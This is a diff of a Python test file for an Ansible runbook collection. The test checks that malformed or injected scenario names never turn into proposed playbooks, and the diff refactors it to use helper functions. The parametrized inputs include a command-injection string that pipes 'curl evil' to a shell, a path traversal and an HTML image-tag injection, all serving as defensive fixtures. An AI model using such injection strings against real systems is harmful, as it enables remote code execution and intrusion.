@@ -13,9 +13,10 @@ from ansible_collections.pafar.runbook.plugins.module_utils._triage.sign import 
     scenarios_of,
 )
 
-from .surveys import told
+from .surveys import alert, series, told
 
 PLAYBOOKS = Path(__file__).parents[5] / "playbooks"
+
 
 # They work no scenario: the first look, the way back, the rehearsal, the quiet day.
 NO_SCENARIO = {"triage", "undo", "game_day", "preflight"}
@@ -27,9 +28,8 @@ def test_what_may_be_proposed_is_every_playbook_of_a_scenario():
 
 @pytest.mark.parametrize("name", ["x; curl evil|sh #", "../../tmp/x", "disk_space.yml", "triage", "`<img src=x>`"])
 def test_nothing_else_is_proposed(name):
-    alert = {"name": "X", "state": "firing", "severity": "P0", "summary": "s", "scenario": name}
-    one = {"name": "failing", "value": 1, "unit": "", "severity": {"P1": 1}, "scenario": name}
-    signs = prometheus_signs({"alerts": [alert], "series": [one]})
+    beyond = series("failing", 1, "", severity={"P1": 1}, scenario=name)
+    signs = prometheus_signs({"alerts": [alert("P0", scenario=name)], "series": [beyond]})
     assert [each.severity for each in signs] == ["P0", "P1"]
     assert scenarios_of(signs) == []
     assert "ansible-playbook" not in told(signs)
